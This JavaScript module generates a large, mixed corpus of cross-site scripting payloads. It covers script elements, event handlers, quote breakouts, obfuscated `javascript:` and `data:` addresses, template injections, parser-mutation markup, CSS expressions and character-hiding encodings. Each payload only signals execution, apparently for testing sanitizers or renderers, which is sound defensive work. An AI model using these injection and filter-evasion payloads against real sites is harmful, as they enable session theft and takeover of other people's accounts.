// Script payloads: texts that run a program if a page or a drawing takes them for markup, an
// attribute, an address, a style or a template. Each calls `__executed`, opens a dialog or sets the
// title of the document, with a number that says which payload it was and in which field.
//
// They are combined from contexts, handlers and ways of writing. The order is fixed and mixed, so
// that a sample has some of every family.

/** What a payload runs. None needs a quotation mark, so that each fits into every attribute. */
const RUNS = [
  (id) => `__executed(${id})`,
  (id) => `alert(${id})`,
  (id) => `top.__executed(${id})`,
  (id) => `document.title=${id}`,
  (id) => `[${id}].map(__executed)`,
  (id) => `self[/__executed/.source](${id})`,
  (id) => `confirm(${id})`,
];

const base64 = (text) => Buffer.from(text).toString("base64");
const entities = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const hexadecimal = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)}`).join("");
const percent = (text) => [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
const escaped = (text) => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const wide = (text) => text.replace(/[<>"'/=]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const named = (text) => text.replace(/[<>"'&]/g, (c) => ({ "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "&": "&amp;" })[c]);

/** Whole elements that run without anybody's help, or when they are touched. */
const ELEMENTS = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script/x>${run}</script/x>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<math><script>${run}</script></math>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  (run) => `<object data="data:text/html;base64,${base64(`<script>${run}</script>`)}"></object>`,
  (run) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}">`,
  (run) => `<link rel=stylesheet href=x onerror=${run}>`,
  (run) => `<link rel=import href="data:text/html,<script>${run}</script>">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
  (run) => `<base href="javascript:${run}//"><a href=x>x</a>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<form><button formaction="javascript:${run}">x</button></form>`,
  (run) => `<isindex action="javascript:${run}" type=submit>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  (run) => `<svg><set attributeName=onmouseover to="${run}"/></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}></svg>#x"/></svg>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<map name=m><area href="javascript:${run}" shape=default></map>`,
  (run) => `<video poster="javascript:${run}"><source onerror="${run}"></video>`,
];

/** Elements with an attribute that holds a program: the tag and its attributes, the handler, and
 *  what follows. */
const HANDLERS = [
  ["img src=x", "onerror", ""], ["img src=x:", "onerror", ""], ["image src=x", "onerror", ""],
  ["svg", "onload", "</svg>"], ["body", "onload", ""], ["body", "onpageshow", ""],
  ["video><source src=x", "onerror", "</video>"], ["audio src=x", "onerror", "</audio>"],
  ["input autofocus", "onfocus", ""], ["select autofocus", "onfocus", "</select>"],
  ["textarea autofocus", "onfocus", "</textarea>"], ["button autofocus", "onfocus", "</button>"],
  ["a href=# tabindex=1", "onfocus", "x</a>"], ["a href=#", "onclick", "x</a>"],
  ["details open", "ontoggle", "</details>"], ["marquee", "onstart", "</marquee>"],
  ["iframe", "onload", "</iframe>"], ["object data=x", "onerror", "</object>"],
  ["style", "onload", "</style>"], ["div", "onmouseover", "x</div>"],
  ["b", "onpointerover", "x</b>"], ["p", "onclick", "x</p>"], ["x contenteditable", "onblur", "x</x>"],
  ["svg><animate", "onbegin", "</svg>"], ["svg><image href=x", "onerror", "</svg>"],
  ["div popover id=p", "onbeforetoggle", "</div>"], ["link rel=preload as=image href=x", "onerror", ""],
  ["img srcset=x", "onerror", ""], ["table background=x", "onmouseenter", "</table>"],
];
const WRITTEN = [
  (tag, on, run, end) => `<${tag} ${on}=${run}>${end}`,
  (tag, on, run, end) => `<${tag} ${on}="${run}">${end}`,
  (tag, on, run, end) => `<${tag} ${on}='${run}' >${end}`,
  (tag, on, run, end) => `<${tag.replace(/ /g, "/")}/${on.toUpperCase()}=${run}//>${end}`,
  (tag, on, run, end) => `<${tag}\t${on}\n=\n"${run}"\t>${end}`,
  (tag, on, run, end) => `<${tag.toUpperCase()} ${on}=\`${run}\` ${on}=${entities(run)} >${end}`,
  (tag, on, run, end) => `<${tag} ${on}="${hexadecimal(run)}" x=">"${end ? `>${end}` : ""}`,
];

/** What may end the place where a text stands. */
const ENDS = [
  '"', "'", "`", '">', "'>", "`>", '"/>', '" x="">', "-->", "--!>", "]]>", "</title>", "</script>", "</style>",
  "</textarea>", "</noscript>", "</template>", "</xmp>", "</iframe>", "</svg>", "</math>", "</p>", "</a>", "</h1>",
  "</select>", "</option></select>", "</td></table>", "*/", "}}", "%}", '\\"', '\\">', "&quot;>", "&#34;>", "\n\n",
  "*/</script>", '"}]}</script>', "<!-->", "<![CDATA[>", "?>", '"""', "'''", "\u2028", "\u00a0\">",
];
const AFTER_ENDS = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
];

/** Attributes for those who break out of a value but not out of a tag. */
const ATTRIBUTES = [
  "onmouseover", "onclick", "onpointerover", "onfocus autofocus tabindex=1 onfocus", "onload", "onerror",
  "style=animation:x onanimationstart", "onfocusin", "onmouseenter", "accesskey=x onclick",
];

/** Ways of writing `javascript:`, and its relatives. */
const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "JAVASCRIPT:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:",
  "java\rscript:", "javascript\t:", "javascript\n:", "\u0001javascript:", "\u0000javascript:", "java\u0000script:",
  "java\u0008script:", "java&Tab;script:", "java&NewLine;script:", "javascript&colon;", "java&Tab;script&colon;",
  "&#106;avascript:", "&#x6A;avascript:", "&#X6A;avascript:", "&#0000106avascript:", "&#x000006Aavascript:",
  "javascript&#58;", "javascript&#x3a;", "javascript&#x3A", "jav&#x09;ascript:", "jav&#x0A;ascript:", "jav&#10;ascript:",
  "\\x6aavascript:", "\\u006aavascript:", "%6aavascript:", "javascript%3a", "javascript://%0a", "javascript:/**/",
  "javascript://x/?%0d%0a", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "vbscript:", "livescript:",
  "mocha:", "javascript\uff1a", "java\u00adscript:", "java\u200bscript:", "\ufeffjavascript:", "javascript\u2028:",
  "https:javascript:", "//javascript:", "javascript:void(0),", "javascript:\"\",", "javascript:'',", "javascript:`x`,",
];
const DATA = [
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  (run) => `DATA:text/html;charset=utf-7,+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}`,
  (run) => `data:application/xhtml+xml,<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>${run}</h:script></x>`,
  (run) => `data:text/javascript,${run}`,
  (run) => `data:,${run}`,
  (run) => `data&colon;text/html,<script>${run}</script>`,
  (run) => `da\tta:text/html,<script>${run}</script>`,
];
const AROUND_ADDRESSES = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `"><a href=${address}>x</a>`,
  (address) => `[x](${address.replace(/\s/g, "")})`,
  (address, id) => `[r${id}]: ${address} "x"`,
  (address) => `![x](<${address.replace(/[<>\n\r]/g, "")}>)`,
];

const TEMPLATES = [
  (text) => `{{ "${text.replace(/"/g, "'")}" | safe }}`,
  (text) => `{{ ${text} }}`,
  (text) => `{% raw %}${text}{% endraw %}`,
  (text) => `{%- set x = 1 -%}${text}{%- if x %}`,
  (text) => `{# ${text} #}`,
  (text) => `{% include "base.html" %}${text}`,
  (text) => `}}${text}{{`,
  (text) => `%}${text}{%`,
  (text) => `{{ <ui.exit /> }}${text}`,
  (text) => `\${${text}}`,
  (text) => `#{${text}}`,
  (text) => `<%= ${text} %>`,
  (text) => `{{constructor.constructor('${text.replace(/'/g, '"')}')()}}`,
  (text) => `{{ site.extra }}${text}{{ __tera_context }}`,
];

/** Markup that changes when it is parsed and written again. */
const MUTATIONS = [
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${run}'>"></style></h1>`,
  (run) => `<svg><desc><title><img title="</title><img src=x onerror=${run}>">`,
  (run) => `<svg><foreignObject><style><img src="</style><img src=x onerror=${run}>"></style>`,
  (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<a title="</title><img src=x onerror=${run}>">x`,
  (run) => `<select><template><img src=x onerror=${run}></template></select>`,
  (run) => `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<table><caption><svg><style></table><img src=x onerror=${run}></style>`,
  (run) => `<p><svg><![CDATA[</p><img src=x onerror=${run}>]]></svg>`,
  (run) => `<img title="a\`\`onerror=${run}" src=x>`,
  (run) => `<frameset onload=${run}><frame src=x>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!--[if true]><img src=x onerror=${run}><![endif]-->`,
  (run) => `<?xml-stylesheet href="javascript:${run}"?><img src=x onerror=${run}>`,
  (run) => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${run}>">]>&e;`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<img src=x onerror=${run} `,
];

const STYLES = [
  (run) => `<style>*{background:url("javascript:${run}")}</style>`,
  (run) => `<style>@import "javascript:${run}";</style>`,
  (run) => `<style>@import url(data:text/css,*{x:expression(${run})});</style>`,
  (run) => `<div style="width:expression(${run})">x</div>`,
  (run) => `<div style="background:url(javascript:${run})">x</div>`,
  (run) => `<div style="-moz-binding:url(data:text/xml,${run})">x</div>`,
  (run) => `<div style="behavior:url(javascript:${run})">x</div>`,
  (run) => `;}*{x:ex/**/pression(${run})}`,
  (run) => `";x:expression(${run});y:"`,
  (run) => `url(javascript:${run})`,
  (run) => `</style><img src=x onerror=${run}><style>`,
  (run) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${run}>x</b>`,
];

/** Ways of hiding characters from whoever looks for them. */
const HIDINGS = [
  wide, named, entities, hexadecimal, percent, escaped,
  (text) => named(named(text)),
  (text) => text.replace(/</g, "+ADw-").replace(/>/g, "+AD4-"),
  (text) => text.replace(/</g, "\u00bc").replace(/>/g, "\u00be"),
  (text) => text.replace(/</g, "<<"),
  (text) => text.replace(/</g, "< "),
  (text) => text.replace(/<(\w\w)/g, "<$1\u0000"),
  (text) => text.replace(/<(\w+)/, "<$1\u000b"),
  (text) => text.replace(/<(\w+)/, "<$1\u000c"),
  (text) => text.replace(/<(\w+)/, "<$1\u2028"),
  (text) => text.replace(/<(\w+)/, "<$1\u200b"),
  (text) => text.replace(/(s)(cript)/, "\u017f$2"),
  (text) => text.replace(/(\w)(\w+)/, "$1<x>$2"),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u0085${text}\u2029`,
  (text) => `\ufeff${text}`,
  (text) => `\u{1f600}\u0301${text}\u{e0001}`,
  (text) => `\\${text.replace(/</g, "\\<")}`,
  (text) => text.replace(/\(/g, "&lpar;").replace(/\)/g, "&rpar;"),
];

/** All families; a member makes a text from what it shall run. */
const FAMILIES = {
  elements: cross(RUNS.slice(0, 3), ELEMENTS, (run, element) => (id) => element(run(id))),
  handlers: cross(WRITTEN, HANDLERS, (write, [tag, on, end], at) => (id) => write(tag, on, RUNS[at % RUNS.length](id), end)),
  breakouts: cross(AFTER_ENDS, ENDS, (after, end, at) => (id) => end + after(RUNS[at % RUNS.length](id))),
  attributes: cross(['"', "'", "`", ""], ATTRIBUTES, (mark, on, at) => (id) =>
    `x${mark} ${on}=${mark}${RUNS[at % RUNS.length](id)}${mark} x=${mark}`),
  addresses: cross(AROUND_ADDRESSES, SCHEMES, (around, scheme, at) => (id) => around(scheme + RUNS[at % RUNS.length](id), id)),
  data: cross(AROUND_ADDRESSES, DATA, (around, data, at) => (id) => around(data(RUNS[at % RUNS.length](id)), id)),
  templates: cross(AFTER_ENDS, TEMPLATES, (after, template, at) => (id) => template(after(RUNS[at % RUNS.length](id)))),
  mutations: cross(RUNS.slice(0, 3), MUTATIONS, (run, mutation) => (id) => mutation(run(id))),
  styles: cross(RUNS.slice(0, 3), STYLES, (run, style) => (id) => style(run(id))),
  hidden: cross(AFTER_ENDS, HIDINGS, (after, hide, at) => (id) => hide(after(RUNS[at % RUNS.length](id)))),
};

function cross(these, those, combine) {
  return these.flatMap((one, row) => those.map((other, column) => combine(one, other, row + column)));
}

/** The first `count` payloads, each with its family and a function from a number to its text. */
export function payloads(count) {
  const places = Object.entries(FAMILIES).flatMap(([family, members]) =>
    members.map((text, at) => ({ family, text, place: ((at * 0.618034) % 1) + at / members.length / 1e6 })));
  const distinct = new Map(places.map((each) => [each.text(0), each]));
  const mixed = [...distinct.values()].sort((a, b) => a.place - b.place);
  if (mixed.length < count) throw new Error(`there are only ${mixed.length} payloads`);
  return mixed.slice(0, count).map(({ family, text }, at) => ({ at, family, text }));
}
